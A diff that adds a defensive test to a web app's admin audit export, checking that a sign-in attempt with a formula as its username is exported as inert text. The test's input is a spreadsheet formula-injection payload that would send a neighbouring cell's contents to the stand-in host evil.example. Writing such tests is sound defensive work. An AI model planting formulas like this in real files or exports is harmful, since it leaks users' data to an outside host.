@@ -109,3 +109,17 @@ def test_an_unmasked_export_is_recorded_as_such(admin_app, client_for) -> None:
         export = accounts.list_audit(session, action="audit.export")[0]
     assert unmask.target == "audit_log.csv" and export.detail == {"rows": 1, "unmasked": True}
     assert client_for("editor").get("/admin/audit/export.csv").status_code == 403
+
+
+def test_a_sign_in_attempt_with_a_formula_for_a_name_is_text_in_the_export(admin_app, client_for) -> None:
+    """Issue 17, item 1: the audit export writes the attempted username as text, never as a formula."""
+    from fastapi.testclient import TestClient
+
+    from tests.support.admin import login
+
+    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
+    assert login(TestClient(admin_app), attack, "wrong-password").status_code == 401
+    text = client_for("admin").get("/admin/audit/export.csv?action=login.failed").content.decode("utf-8")
+    header, *rows = _csv(text)
+    assert [(r[1], r[3]) for r in rows] == [("'" + attack, "'" + attack)]
+    assert not [cell for r in rows for cell in r if cell[:1] in set("=+-@\t\r")]
